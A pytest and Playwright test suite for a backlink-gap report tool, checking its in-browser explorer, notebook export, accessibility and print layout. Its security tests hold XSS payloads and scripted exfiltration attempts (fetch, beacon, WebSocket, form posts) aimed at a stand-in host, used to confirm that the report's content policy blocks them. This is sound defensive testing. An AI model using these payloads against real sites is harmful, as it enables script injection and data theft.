"""The report in a real browser: opened from disk, with nothing behind it and no way out."""

import csv
import io
import json
import re
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from threading import Thread

import numpy as np
import pandas as pd
import pytest
from axe_playwright_python.sync_playwright import Axe
from playwright.sync_api import expect

import linkgap as lg
from linkgap.cells import is_page
from linkgap.cli import main

HOSTILE = "<img src=x onerror=window.pwned=1></script ><script>window.pwned=1</script>&quot;"
RIVALS = ("one.example", "two.example", "three.example")


def made_up(number: int) -> lg.Prospects:
    """So many prospects that link to one rival, two or three, from one seed."""
    draw = np.random.default_rng(8)
    linked = draw.integers(1, 1 << len(RIVALS), number)
    rows = [
        {
            "site": rival,
            "source_url": f"https://site-{place}.example/page-{place}?a=b",
            "target_url": f"https://{rival}/",
            "anchor": f"anchor {place % 7}",
            "authority": float(place * 37 % 91),
            "first_seen": f"202{place % 6}-0{1 + place % 9}-11",
        }
        for place in range(number)
        for bit, rival in enumerate(RIVALS)
        if linked[place] >> bit & 1
    ]
    mine = [{"site": site, "source_url": "https://friend.example/"} for site in ("mine.example", *RIVALS)]
    return lg.rank_prospects(lg.find_gap(lg.read_links(pd.DataFrame([*rows, *mine])), site="mine.example"))


@pytest.fixture(scope="module")
def backtest(prospects):
    return lg.backtest(prospects.gap)


@pytest.fixture(scope="module")
def report(prospects, backtest, tmp_path_factory):
    """A report with all that the sample has to say."""
    return lg.build_report(prospects, tmp_path_factory.mktemp("report") / "gap.html", backtest=backtest)


def opened(page, path):
    page.goto(path.as_uri())
    page.wait_for_selector(".linkgap[data-ready]")
    return page


def check_shown(place, number):
    expect(place.locator(".lg-shown")).to_have_text(re.compile(rf"^{number:,} "))


def check_first(place, domain):
    expect(place.locator('.lg-row[aria-rowindex="2"] .lg-cell').nth(2)).to_have_text(domain)


def exported(place, prospects):
    with place.locator(".linkgap").page.expect_download() as download:
        place.get_by_role("button", name="Export CSV").click()
    assert download.value.suggested_filename == f"{prospects.gap.site}-prospects.csv"
    return list(csv.DictReader(io.StringIO(download.value.path().read_text("utf-8-sig"))))


def walk_through(place, prospects):
    """Do with an explorer what a reader does, on a page or in a frame, and compare with Python."""
    frame = prospects.frame
    check_shown(place, len(frame))
    assert [row["domain"] for row in exported(place, prospects)] == frame["domain"].tolist()
    place.get_by_label("Authority of the link").fill("2")
    check_first(place, lg.rank_prospects(prospects.gap, authority_weight=2.0).frame["domain"][0])
    place.get_by_role("button", name="Reset to recommended").click()
    check_first(place, frame["domain"][0])
    place.get_by_label("Authority, minimum").fill("40")
    passing = frame[frame["authority"] >= 40]
    check_shown(place, len(passing))
    rows = exported(place, prospects)
    assert [row["domain"] for row in rows] == passing["domain"].tolist()
    assert [float(row["priority"]) for row in rows] == pytest.approx(passing["priority"].tolist(), abs=1e-9)
    place.get_by_role("button", name="Clear filters").click()
    domain = frame["domain"][0]
    place.get_by_label(f"Select {domain}", exact=True).click()
    assert [row["domain"] for row in exported(place, prospects)] == [domain]
    place.get_by_label(f"Select {domain}", exact=True).click()
    place.locator(".lg-row", has_text=domain).first.click()
    place.locator(".lg-detail h3", has_text=domain).wait_for()
    assert place.locator(".lg-sum").inner_text().split()[-1] == f"{frame['priority'][0]:.1f}"
    assert place.locator(".lg-pages a").count() >= 1
    place.get_by_label(f"Status of {domain}", exact=True).select_option("rejected")
    place.get_by_role("button", name="Undo").click()
    place.locator(f"select[aria-label='Status of {domain}'][data-word=new]").wait_for()


@pytest.mark.parametrize("number", [1, 1000])
def test_the_explorer_works_in_the_file(page, tmp_path, number):
    prospects = made_up(number)
    path = lg.build_report(prospects, tmp_path / "gap.html", title="For the client")
    assert path.stat().st_size < 500_000
    opened(page, path)
    assert page.title() == "For the client"
    best = page.locator(".lgr-best .lgr-who b").all_inner_texts()
    assert best == prospects.frame["domain"].head(10).tolist()
    walk_through(page, prospects)


def test_a_browser_too_old_for_the_explorer_is_told_so(chromium, tmp_path):
    """Safari before 16.4 can't unpack its columns: an empty place stood below the words that say how to use it."""
    path = lg.build_report(made_up(3), tmp_path / "gap.html")
    context = chromium.new_context()
    context.add_init_script("if (location.search) delete window.DecompressionStream")
    page = context.new_page()
    told = page.get_by_text("needs Chrome or Edge 110, Firefox 121, Safari 16.4")
    page.goto(path.as_uri() + "?old")
    expect(told).to_be_visible()
    opened(page, path)
    expect(told).to_have_count(0)
    context.close()


@pytest.fixture(scope="module")
def notebook(tmp_path_factory):
    """What `linkgap report --notebook` leaves: the notebook with its results, and its HTML."""
    folder = tmp_path_factory.mktemp("notebook")
    words = ["report", lg.sample_exports(), "--site", "oakdesk.example", "--notebook", "--out", folder / "gap.html"]
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PYTHONPATH", str(lg.sample_exports().parents[1]))
        patch.setenv("IPYTHONDIR", str(folder / "ipython"))
        assert main([*map(str, words), "--quiet"]) == 0
    return folder / "gap.ipynb"


def test_the_explorer_works_in_the_notebooks_page(page, notebook, prospects):
    page.goto(notebook.with_suffix(".html").as_uri())
    frame = page.frame_locator("iframe")
    frame.locator(".linkgap[data-ready]").wait_for()
    assert page.locator(".lgr-lead").inner_text().startswith("1,69")
    assert page.locator(".jp-CodeMirrorEditor, .jp-InputPrompt").count() == 0
    walk_through(page.frames[1], prospects)


FRAME_OF = """(address) => new Promise((resolve) => {
  addEventListener("securitypolicyviolation", ({ effectiveDirective }) => resolve(effectiveDirective), { once: true });
  const frame = document.createElement("iframe");
  frame.src = address || URL.createObjectURL(new Blob(["a,b"], { type: "text/plain" }));
  frame.onload = () => resolve("loaded");
  document.body.append(frame);
})"""


def test_the_notebooks_page_lets_a_frame_go_to_what_it_saves_and_nowhere_else(chromium, notebook):
    # Chromium saves it in any case. Firefox and Safari ask the page around, and saved nothing without a word.
    context = chromium.new_context()
    page = context.new_page()
    page.goto(notebook.with_suffix(".html").as_uri())
    assert page.evaluate(FRAME_OF, "") == "loaded"
    assert page.evaluate(FRAME_OF, "https://elsewhere.example/") == "frame-src"
    assert page.evaluate(FRAME_OF, "data:text/html,elsewhere") == "frame-src"
    context.close()


def test_the_explorer_is_as_light_as_the_notebook(page, notebook):
    page.goto(notebook.with_suffix(".html").as_uri())
    for scheme, theme in product(("light", "dark"), repeat=2):
        page.emulate_media(color_scheme=scheme)
        page.evaluate("(light) => { document.body.dataset.jpThemeLight = light; }", str(theme == "light").lower())
        turned = page.locator("iframe").evaluate("(frame) => getComputedStyle(frame).filter") != "none"
        assert turned == (scheme != theme)


def test_the_explorers_frame_lets_the_page_through(page, notebook):
    """Around the explorer was white or, turned, black where the system is dark, whatever the page."""
    page.goto(notebook.with_suffix(".html").as_uri())
    frame = page.locator("iframe")
    frame.scroll_into_view_if_needed()
    page.frame_locator("iframe").locator(".linkgap[data-ready]").wait_for()
    for scheme, theme in product(("light", "dark"), repeat=2):
        page.emulate_media(color_scheme=scheme)
        page.evaluate("(light) => { document.body.dataset.jpThemeLight = light; }", str(theme == "light").lower())
        box = frame.bounding_box()
        spots = [{"x": box["x"] + aside, "y": box["y"] + 40, "width": 3, "height": 3} for aside in (-6, 3)]
        around, inside = [page.screenshot(clip=spot) for spot in spots]
        assert around == inside, (scheme, theme)


def test_lists_stand_as_far_left_as_tables_in_a_notebook(page, notebook):
    page.goto(notebook.with_suffix(".html").as_uri())
    starts = page.locator(":is(.lgr-best, [data-section=finding] > *):visible").evaluate_all(
        "(all) => all.map((each) => each.getBoundingClientRect().x + parseFloat(getComputedStyle(each).paddingLeft))"
    )
    assert len(set(starts)) == 1
    rows = page.locator(".lgr tbody tr").evaluate_all(
        "(all) => all.map((row) => getComputedStyle(row).backgroundColor)"
    )
    assert set(rows) == {"rgba(0, 0, 0, 0)"}


WIDER = """() => [...document.querySelectorAll(".lgr-wide")].filter((each) => each.offsetParent)
  .filter((each) => each.scrollWidth > each.clientWidth).map((each) => each.ariaLabel)"""


def test_no_table_of_the_notebooks_page_is_cut_off_on_paper(page, notebook):
    page.goto(notebook.with_suffix(".html").as_uri())
    page.set_viewport_size({"width": 790, "height": 1100})
    page.emulate_media(media="print")
    expect(page.locator("[data-section=list]")).to_be_visible()
    assert page.evaluate(WIDER) == []


def test_it_works_through_plain_nbconvert_too(chromium, notebook, prospects, tmp_path):
    from nbconvert import HTMLExporter

    text, _ = HTMLExporter(exclude_input=True, exclude_output_prompt=True).from_filename(notebook)
    (tmp_path / "gap.html").write_text(text, encoding="utf-8")
    context = chromium.new_context(viewport={"width": 1500, "height": 940}, offline=True, accept_downloads=True)
    page = context.new_page()
    page.goto((tmp_path / "gap.html").as_uri())
    page.frame_locator("iframe").locator(".linkgap[data-ready]").wait_for()
    walk_through(page.frames[1], prospects)
    context.close()


def test_the_notebook_holds_results_and_no_widget(notebook):
    import nbformat

    ran = nbformat.read(notebook, as_version=4)
    outputs = [output for cell in ran.cells for output in cell.get("outputs", ())]
    assert [output for output in outputs if output.output_type in {"error", "stream"}] == []
    assert "widgets" not in ran.metadata


# The page says what the summary says.


def leaves(value):
    """All texts and numbers in a plain value."""
    if isinstance(value, dict):
        value = value.values()
    if isinstance(value, list) or type(value) is type({}.values()):
        return [leaf for each in value for leaf in leaves(each)]
    return [value] if value is not None and not isinstance(value, bool) else []


def written(value):
    """How a number may stand in the page."""
    if isinstance(value, str):
        return {" ".join(value.split()), value[:1].upper() + value[1:]}
    shown = {f"{value:,}", f"{value:g}", f"{value:,.0f}", f"{value:,.1f}"}
    percent = f"{100 * value:.0f}%"
    return shown | {percent}


NOT_SHOWN = {
    "finding": set(),
    "best": {"likelihood", "rivals_linked", "authority", "metric", "anchor", "relation", "tactic", "page", "status"},
    "worth": {"method", "curve", "measured"},
    "pictures": {"map", "rivals", "present", "sites", "tactic"},
    "files": set(),
    "method": set(),
    "settings": {"question", "ranking"},
    "list": set(),
    "explorer": set(),
    "outreach": set(),
}
"""What is drawn, said in other words, or there for programs alone."""


def pruned(value, names):
    if isinstance(value, dict):
        return {name: pruned(each, names) for name, each in value.items() if name not in names}
    return [pruned(each, names) for each in value] if isinstance(value, list) else value


def test_the_json_summary_is_what_the_page_shows(page, prospects, backtest, tmp_path):
    book = lg.open_outreach(tmp_path / "outreach.sqlite", site="oakdesk.example")
    book.set(prospects.frame["domain"][1], status="contacted", note="wrote to Ann", owner="Kim")
    told = {"backtest": backtest, "outreach": book, "intro": "First paragraph.\n\nSecond one.", "redact": ["contacts"]}
    summary = json.loads(lg.build_report(prospects, tmp_path / "gap.json", **told).read_text("utf-8"))
    opened(page, lg.build_report(prospects, tmp_path / "gap.html", **told))
    assert page.locator("h1").inner_text() == summary["title"]
    assert page.locator(".lgr-intro p").all_inner_texts() == summary["intro"]
    assert page.locator("main > section").evaluate_all("(all) => all.map((each) => each.id)") == list(
        summary["sections"]
    )
    for name, section in summary["sections"].items():
        text = " ".join(page.locator(f"section#{name}").text_content().split())
        kept = leaves(pruned(section, NOT_SHOWN[name]))
        assert [each for each in kept if not any(form in text for form in written(each))] == [], name
    rows = page.locator("section#list tbody tr")
    assert rows.count() == len(summary["sections"]["list"]["rows"]) == 50
    links = page.locator(".lgr-best a").evaluate_all("(all) => all.map((each) => each.href)")
    assert links == [row["page"] for row in summary["sections"]["best"]["rows"] if is_page(row["page"])]
    shown = rows.nth(7).locator("td").all_text_contents()
    row = summary["sections"]["list"]["rows"][7]
    wanted = [str(row["rank"]), row["domain"], f"{row['priority']:.1f}", str(row["rivals_linked"])]
    wanted += [f"{row['authority']:g}", row["evidence"], row["tactic"], row["status"], row["sample_url"]]
    assert shown == wanted


def test_numbers_in_the_first_minute_are_those_of_the_summary(page, report, prospects, backtest, tmp_path):
    """The other way round: no number stands in the page that is not in the summary."""
    summary = json.loads(lg.build_report(prospects, tmp_path / "gap.json", backtest=backtest).read_text("utf-8"))
    opened(page, report)
    for name in ("finding", "best", "worth", "files"):
        known = " ".join(form for leaf in leaves(summary["sections"][name]) for form in written(leaf))
        found = re.findall(r"\d[\d,.]*\d|\d", page.locator(f"section#{name}").inner_text())
        # These stand in the words of a template, or on an axis.
        others = {"0", "100", "10", "50", "1", "20", "30", "40"}
        assert [number for number in found if number not in known and number not in others] == [], name


def test_a_second_build_gives_the_same_bytes(prospects, report, tmp_path):
    again = lg.rank_prospects(lg.find_gap(lg.read_links(lg.sample_exports()), site="oakdesk.example"))
    assert again is not prospects
    other = lg.build_report(again, tmp_path / "other.html", backtest=lg.backtest(again.gap))
    assert report.read_bytes() == other.read_bytes()


# Text from strangers, and the policy.


def hostile_prospects():
    texts = ("anchor", "title", "language", "platform", "category", "author")
    rows = [
        {
            "site": site,
            "source_url": f"https://b{place}.example/{HOSTILE}",
            "target_url": f"https://{site}/{HOSTILE}",
            "authority": float(place),
            **dict.fromkeys(texts, HOSTILE),
        }
        for place in range(12)
        for site in ("one.example", "two.example")
    ]
    rows.append(
        {"site": "mine.example", "source_url": "https://friend.example/", "target_url": "https://mine.example/"}
    )
    return lg.rank_prospects(lg.find_gap(lg.read_links(pd.DataFrame(rows)), site="mine.example"))


def test_hostile_text_is_inert_in_every_field(page, tmp_path):
    prospects = hostile_prospects()
    book = lg.open_outreach(tmp_path / "outreach.sqlite", site="mine.example")
    said = {"note": HOSTILE, "owner": HOSTILE, "contact": HOSTILE}
    book.set(prospects.frame["domain"][0], status="contacted", **said)
    logo = tmp_path / "logo.svg"
    logo.write_text('<svg xmlns="http://www.w3.org/2000/svg"><script>window.parent.pwned=1</script></svg>')
    told = {"title": HOSTILE, "intro": HOSTILE, "outreach": book, "logo": logo}
    opened(page, lg.build_report(prospects, tmp_path / "gap.html", **told))
    for place in range(len(prospects)):
        page.locator(".lg-row:visible").nth(place).click()
    expect(page.locator(".lg-detail h3")).to_have_text(
        page.locator(".lg-row:visible .lg-cell:nth-child(3)").last.inner_text()
    )
    assert page.evaluate("window.pwned") is None
    assert page.title() == HOSTILE
    assert page.locator("main img, main script, .lgr-head script").count() == 0
    assert page.locator(".lgr-intro p").inner_text() == HOSTILE
    assert page.locator("section#outreach").inner_text().count(HOSTILE) == 3


def test_hostile_text_is_inert_in_a_notebook(page, tmp_path):
    view = lg.show_report(hostile_prospects())
    path = tmp_path / "cell.html"
    path.write_text(f"<!doctype html><meta charset=utf-8><title>x</title><body>{view._repr_html_()}", encoding="utf-8")
    page.goto(path.as_uri())
    page.frame_locator("iframe").locator(".linkgap[data-ready]").wait_for()
    assert page.evaluate("window.pwned") is None
    assert page.frames[1].evaluate("window.pwned") is None
    assert page.locator("img, script").count() == 0


TRIES = """
<script>window.pwned = "inline script"</script>
<script src="http://ELSEWHERE/a.js"></script>
<img src="http://ELSEWHERE/a.png" onerror="window.pwned = 'handler'">
<link rel="stylesheet" href="http://ELSEWHERE/a.css">
<iframe src="http://ELSEWHERE/"></iframe>
<object data="http://ELSEWHERE/a.swf"></object>
<video src="http://ELSEWHERE/a.mp4"></video>
<p id="styled" style="position: fixed">x</p>
<base href="http://ELSEWHERE/">
<iframe name="aside"></iframe>
<form id="form" target="aside" action="http://ELSEWHERE/form"></form>
"""
TRIES_OF_SCRIPT = """async () => {
  const tried = { fetch: () => fetch("http://ELSEWHERE/"), beacon: () => navigator.sendBeacon("http://ELSEWHERE/", "x"),
    socket: () => new WebSocket("ws://ELSEWHERE/"), events: () => new EventSource("http://ELSEWHERE/"),
    worker: () => new Worker("http://ELSEWHERE/a.js"), module: () => import("http://ELSEWHERE/a.js"),
    form: () => document.getElementById("form").submit() };
  for (const attempt of Object.values(tried)) try { await attempt(); } catch {}
  await new Promise((resolve) => setTimeout(resolve, 300));
}"""


@pytest.fixture
def elsewhere():
    """A server that must not be reached: its address, and whoever came."""
    came = []

    class Answer(BaseHTTPRequestHandler):
        def do_GET(self):
            came.append(self.path)
            self.send_response(200)
            self.end_headers()

        def do_POST(self):
            self.do_GET()

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Answer)
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"127.0.0.1:{server.server_port}", came
    server.shutdown()
    server.server_close()


def try_everything(chromium, path, text, address):
    """Put what tries to get out into a report, and return the directives that stopped something."""
    path.write_text(text, encoding="utf-8")
    context = chromium.new_context()
    page = context.new_page()
    blocked = []

    def note(directive):
        blocked.append(directive)

    page.expose_function("blocked", note)
    page.add_init_script(
        "addEventListener('securitypolicyviolation', (stop) => window.blocked(stop.effectiveDirective))"
    )
    opened(page, path)
    page.evaluate(TRIES_OF_SCRIPT.replace("ELSEWHERE", address))
    pwned = page.evaluate("window.pwned")
    position = page.evaluate("getComputedStyle(document.getElementById('styled')).position")
    context.close()
    return set(blocked), pwned, position


def test_a_page_that_tries_is_blocked_by_its_policy(chromium, report, tmp_path, elsewhere):
    address, came = elsewhere
    trying = report.read_text("utf-8").replace("<main>", f"<main>{TRIES}".replace("ELSEWHERE", address))
    blocked, pwned, position = try_everything(chromium, tmp_path / "a.html", trying, address)
    assert (came, pwned, position) == ([], None, "static")
    wanted = {"script-src-elem", "img-src", "style-src-elem", "frame-src", "object-src", "media-src", "style-src-attr"}
    assert blocked >= wanted | {"connect-src", "form-action", "base-uri"}
    # Without the policy all this would have worked, so the test can fail.
    bare = re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", trying)
    blocked, pwned, position = try_everything(chromium, tmp_path / "b.html", bare, address)
    assert len(came) >= 8
    assert (blocked, position) == (set(), "fixed")
    assert pwned is not None


# How it looks, and to whom.


def serious_faults(page, *rules):
    found = Axe().run(page, options={"resultTypes": ["violations"]} | ({"runOnly": rules} if rules else {}))
    return [
        (fault["id"], node["html"][:200], node["failureSummary"])
        for fault in found.response["violations"]
        if fault["impact"] in {"serious", "critical"}
        for node in fault["nodes"]
    ]


def doubtful():
    """Prospects of which none is proven, and outreach is under way with some."""
    rows = [(site, f"site-{place}.example") for place in range(40) for site in ("one.example", "two.example")]
    rows.append(("mine.example", "friend.example"))
    frame = pd.DataFrame(rows, columns=["site", "source_domain"])
    links = lg.read_links(frame, complete=False)
    return lg.rank_prospects(lg.find_gap(links, site="mine.example"))


OF_COLOURS = ("color-contrast", "link-in-text-block")
"""What a dark page can get wrong that a light one has right."""


@pytest.mark.parametrize("which", ["sample", "doubtful"])
def test_axe_finds_no_serious_fault(chromium, prospects, backtest, tmp_path, which):
    prospects, backtest = (prospects, backtest) if which == "sample" else (doubtful(), None)
    book = lg.open_outreach(tmp_path / "outreach.sqlite", site=prospects.gap.site)
    for place, status in enumerate(("shortlisted", "contacted", "replied", "won", "rejected")):
        book.set(prospects.frame["domain"][place], status=status, note="wrote to Ann")
    path = lg.build_report(prospects, tmp_path / "gap.html", backtest=backtest, outreach=book, intro="Hello.")
    context = chromium.new_context(viewport={"width": 1400, "height": 900}, color_scheme="light", bypass_csp=True)
    page = opened(context.new_page(), path)
    page.locator(".lg-row:visible").nth(3).click()
    for place in range(8):
        page.locator(".lg-row:visible input[type=checkbox]").nth(place).click()
    page.locator("details").evaluate_all("(all) => all.forEach((each) => { each.open = true; })")
    expect(page.locator(".lg-detail h3")).to_be_visible()
    expect(page.locator(".lg-shown")).to_contain_text("8 selected")
    assert serious_faults(page) == []
    page.emulate_media(color_scheme="dark")
    expect(page.locator(".linkgap")).to_have_class(re.compile("lg-dark"))
    assert serious_faults(page, *OF_COLOURS) == []
    context.close()


def test_axe_would_find_one(page, tmp_path):
    path = tmp_path / "bad.html"
    path.write_text("<!doctype html><title>x</title><img src='data:,'><button></button>", encoding="utf-8")
    page.goto(path.as_uri())
    assert {fault for fault, *_ in serious_faults(page)} >= {"image-alt", "button-name", "html-has-lang"}


@pytest.mark.parametrize("width", [390, 1280])
def test_nothing_sticks_out_of_a_narrow_page(page, report, width):
    page.set_viewport_size({"width": width, "height": 800})
    opened(page, report)
    assert page.evaluate("document.documentElement.scrollWidth") <= width


def test_on_a_phone_the_table_of_sites_shows_its_numbers(page, report):
    page.set_viewport_size({"width": 390, "height": 800})
    opened(page, report)
    for place in (2, 3):
        number = page.locator(".lgr-sites tbody tr").last.locator("th, td").nth(place).bounding_box()
        assert number["x"] + number["width"] <= 390


def test_on_a_wide_screen_four_pictures_stand_two_by_two(page, report):
    page.set_viewport_size({"width": 1920, "height": 1000})
    opened(page, report)
    tops = page.locator("#pictures .lgr-picture").evaluate_all(
        "(all) => all.map((each) => each.getBoundingClientRect().top)"
    )
    assert len(tops) == 4
    assert tops[0] == tops[1] < tops[2] == tops[3]


def test_filled_dots_are_filled_where_the_system_sets_all_colours(page, report):
    opened(page, report).emulate_media(forced_colors="active")
    colours = """(dots) => [dots.querySelector(".lgr-on"), dots.appendChild(document.createElement("i"))]
      .map((dot) => getComputedStyle(dot).backgroundColor)"""
    filled, hollow = page.locator(".lgr-dots").first.evaluate(colours)
    assert filled != hollow


def test_on_paper_the_first_fifty_stand_in_for_the_explorer(page, report):
    opened(page, report)
    assert page.locator("section#explorer").is_visible()
    assert page.locator("section#list").is_hidden()
    page.emulate_media(media="print")
    assert page.locator("section#explorer").is_hidden()
    assert page.locator("section#list tbody tr").count() == 50
    assert page.locator("section#list").is_visible()
    whole = page.locator("#pictures p, #pictures ul").evaluate_all(
        "(all) => all.map((each) => getComputedStyle(each.parentElement).breakInside)"
    )
    assert set(whole) == {"avoid"}, "the words below a picture are on its page"
    heading = page.locator(".lgr-more summary").first
    assert heading.evaluate("(each) => getComputedStyle(each).breakAfter") == "avoid"
    assert page.pdf().startswith(b"%PDF")


def test_settings_open_the_explorer_as_it_was_left(page, prospects, tmp_path):
    settings = {"ranking": {"authority_weight": 2.0}, "filters": {"present": ["deskly.example"]}}
    opened(page, lg.build_report(prospects, tmp_path / "gap.html", settings=settings))
    ranked = [prospects.gap.domains[place] for place in lg.rank_prospects(prospects.gap, authority_weight=2.0).order]
    linking = set(prospects.frame["domain"][prospects.frame["deskly.example"]])
    check_shown(page, len(linking))
    check_first(page, next(domain for domain in ranked if domain in linking))
    assert page.locator(".lgr-best .lgr-who b").first.inner_text() == ranked[0]
